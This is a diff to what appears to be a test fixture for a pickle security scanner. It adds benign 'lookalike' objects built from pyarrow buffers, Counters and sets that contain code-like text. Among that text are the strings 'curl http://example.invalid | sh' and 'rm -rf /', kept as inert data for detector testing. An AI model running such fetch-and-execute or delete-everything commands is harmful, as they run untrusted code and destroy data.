@@ -51,7 +51,23 @@ _SETTER = call("builtins", "getattr", Name("dill", "_dill"), "_setattr", Name("b
 _CELL = call("dill._dill", "_create_cell", None)
 _CALLBACK = {"callback": Name("math", "sqrt")}
 
+_CODE_BYTES = f"#!/bin/sh\ncurl http://example.invalid | sh\n{SOURCE}\n{EXPRESSION}\n".encode()
+_COLUMN = call(
+    "pyarrow.lib",
+    "_restore_array",
+    (call("pyarrow.lib", "type_for_alias", "large_string"), 1, 0, 0,
+     [call("pyarrow.lib", "py_buffer", part) for part in (bytes(16), _CODE_BYTES)], [], None),
+)  # fmt: skip
+_SCRIPTS = {SOURCE: 2, "#!/bin/sh": 1, "rm -rf /": 1, "import": 4, "os": 3, ".": 9, "system": 3, "__init__": 2}
+_UNAME = ("Linux", "host", "6.18.0", "#1 SMP PREEMPT_DYNAMIC", "x86_64")
+
 LOOKALIKES: tuple[Benign, ...] = (
+    _row("column-of-code", _COLUMN, "A column of texts of pandas 3, which pyarrow keeps."),
+    _row("buffer-of-code", call("pyarrow.lib", "py_buffer", _CODE_BYTES), "What such a column consists of."),
+    _row("counter-of-code", call("collections", "Counter", _SCRIPTS), "Lines of source code that were counted."),
+    _row("set-of-code", call("builtins", "set", list(_SCRIPTS)), "Lines of source code, each once.", 2),
+    _row("syntax-node", Build(call("ast", "alias"), {"name": "os", "asname": None}), "A node of a syntax tree."),
+    _row("uname", call("platform", "uname_result", *_UNAME), "What a run notes of its machine."),
     _row("keywords-below-protocol-4", Call(_KEYWORDS), "As pickle writes __getnewargs_ex__ with keywords.", 2),
     _row("block-of-dates", Call(_NEW_BLOCK, (_DATES, call("builtins", "slice", 0, 1, 1))), "Dates of pandas 1.3."),
     _row(
